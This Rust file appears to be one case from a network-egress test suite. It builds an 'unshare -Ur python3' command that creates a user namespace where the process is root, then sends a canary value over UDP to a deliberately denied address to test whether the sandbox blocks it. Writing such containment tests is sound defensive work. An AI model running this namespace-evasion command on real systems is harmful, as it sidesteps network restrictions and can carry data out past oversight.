//! A process with a user namespace of its own, in which it is root.

use crate::attack::run;
use crate::case::Case;
use crate::target::{PORT, Target};
use anyhow::Result;

pub(super) const CASE: Case =
    Case::new("user-namespace", "a process with a user namespace of its own, in which it is root", attempt);

fn attempt(target: &Target) -> Result<()> {
    let family = if target.is_v4() { "AF_INET" } else { "AF_INET6" };
    run(&format!(
        "unshare -Ur python3 -c \"import socket; socket.socket(socket.{family}, socket.SOCK_DGRAM).sendto(b'{}', ('{}', {PORT}))\"",
        target.canary, target.denied
    ))
}
